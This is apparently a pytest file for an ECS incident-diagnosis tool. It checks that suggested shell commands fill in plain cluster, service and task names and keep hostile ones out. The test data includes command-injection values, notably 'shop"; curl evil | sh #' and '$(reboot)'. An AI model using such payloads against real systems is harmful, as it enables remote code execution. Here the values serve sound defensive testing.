"""The walk: what it puts into words that people paste."""

from __future__ import annotations

import pytest

from obskit.incident.causes import all_causes
from obskit.incident.investigate import investigate, walk
from obskit.model import Service
from tests.support.scenario import TASKS, WINDOW, Scenario

HOSTILE = 'shop"; curl evil | sh #'


@pytest.mark.parametrize("cluster", [HOSTILE, "$(reboot)", "-rf", ""])
def test_a_hostile_name_never_enters_a_command(cluster: str) -> None:
    """Names come from labels and alerts; what is pasted into a shell holds plain ones only."""
    telemetry = Scenario().becomes("db_pool_used_ratio", 1.4).errors().telemetry
    diagnosis = investigate(telemetry, service=Service(name="shop", cluster=cluster), window=WINDOW)
    commands = [step.command for h in diagnosis.hypotheses for step in h.next_steps]

    assert any("--cluster CLUSTER " in command for command in commands)
    assert not any(bad in command for command in commands for bad in (HOSTILE, "$(reboot)", "--cluster -rf"))


def test_a_plain_name_is_filled_in() -> None:
    """What can be pasted as it is saves the reader the typing."""
    telemetry = Scenario().becomes("db_pool_used_ratio", 1.4).errors().telemetry
    diagnosis = investigate(telemetry, service=Service(name="shop", cluster="prod-a"), window=WINDOW)

    assert any("--cluster prod-a --service shop" in s.command for h in diagnosis.hypotheses for s in h.next_steps)


def test_a_callee_with_a_hostile_name_is_blamed_but_not_pasted() -> None:
    """A label's value may name the culprit; it does not reach a command."""
    case = Scenario().errors().becomes("client_latency_mean", 3.0, before=0.02, labels=(("server_address", HOSTILE),))
    diagnosis = case.diagnosis()
    commands = [s.command for h in diagnosis.hypotheses for s in h.next_steps] + [diagnosis.next_query.query]

    assert diagnosis.culprit.service == HOSTILE
    assert not any("curl evil" in command for command in commands)


def test_a_diagnosis_holds_the_title_of_every_cause() -> None:
    """A report that tells what follows from what calls each by the name that it has in the ranking."""
    titles = Scenario().errors().becomes("db_pool_used_ratio", 1.4).diagnosis().cause_titles

    assert titles == {cause.id: cause.title for cause in all_causes()}


@pytest.mark.parametrize("minutes", [2.0, -60.0])
def test_an_alert_is_no_sight_of_events(minutes: float) -> None:
    """It says that somebody was called: what ECS did is not seen by it, and no cause is cleared or burdened by it."""
    plain = Scenario().errors().without("events")
    told = Scenario().errors().without("events").event("alert", minutes=minutes, code="ShopSlow")

    without, named = plain.diagnosis(), told.diagnosis()

    assert "bad_deployment" in dict(Scenario().errors().without("events", "logs").diagnosis().not_judged)
    assert named.not_judged == without.not_judged
    assert named.clean == without.clean
    assert [(h.cause, h.probability, h.judgement) for h in named.hypotheses] == [
        (h.cause, h.probability, h.judgement) for h in without.hypotheses
    ]
    assert [f.subject for f in named.timeline if f.kind == "alert"] == ["ShopSlow"]


def test_a_calm_window_under_an_alert_names_it() -> None:
    """Whoever was called by it learns that it was heard, and that nothing else stands out."""
    calm = Scenario().event("alert", minutes=2.0, code="ShopSlow", message="p95: 3 s").diagnosis()

    assert calm.verdict == "calm"
    assert calm.summary == "shop is calm, though the alert ShopSlow fires: nothing changed for the worse in this window"


def test_an_alert_is_kept_apart_from_events() -> None:
    """Causes ask of events what ECS did; the statistics ask of alerts what is said to be wrong."""
    told = Scenario().event("alert", minutes=2.0, code="CartLatencyHigh")
    case = walk(told.telemetry, service=Service(name="shop", cluster="prod"), window=WINDOW)

    assert [event.code for event in case.evidence.alerts] == ["CartLatencyHigh"]
    assert not case.evidence.events


def test_a_command_names_the_task_that_is_blamed() -> None:
    """The report knows which it is: nobody searches for its id at night."""
    odd = TASKS[1]
    case = Scenario().becomes("http_latency_mean", 3.0, tasks=(odd,)).becomes("http_error_ratio", 0.5, tasks=(odd,))
    diagnosis = case.diagnosis()
    first = diagnosis.hypotheses[0]

    assert (first.cause, diagnosis.culprit.task) == ("one_bad_task", odd)
    assert any(f"stop-task --cluster prod --task {odd} " in step.command for step in first.next_steps)


def test_a_command_names_the_task_as_ecs_knows_it_where_a_label_is_cut() -> None:
    """An exporter may write the beginning of an id; ECS, which told the whole one, takes no other."""
    odd, whole = TASKS[1], TASKS[1] + "0123456789abcdef"
    case = Scenario().becomes("http_latency_mean", 3.0, tasks=(odd,)).becomes("http_error_ratio", 0.5, tasks=(odd,))
    first = case.event("task_running", minutes=-8, task=whole, revision="shop:6").diagnosis().hypotheses[0]

    assert first.judgement.task == odd
    assert any(f"--task {whole} " in step.command for step in first.next_steps)


def test_a_rollback_names_what_ran_before_where_the_tasks_tell() -> None:
    """Of two revisions the older one ran before; where one alone is known, its family is."""
    reason = "Essential container in task exited"

    def rollback(*before: str) -> str:
        case = Scenario().errors().event("deployment", code="SERVICE_DEPLOYMENT_FAILED", deployment="ecs-svc/7")
        for revision in before:
            case.event("task_running", minutes=-8, task=TASKS[0], revision=revision)
        case.stops(3, reason, code="EssentialContainerExited", revision="shop:7", detail_exit_code="1")
        first = case.diagnosis().hypotheses[0]
        assert first.cause == "bad_deployment"
        return next(s.command for s in first.next_steps if "update-service" in s.command)

    assert rollback("shop:6").endswith("--service shop --task-definition shop:6")
    assert rollback().endswith("--service shop --task-definition shop:REVISION")
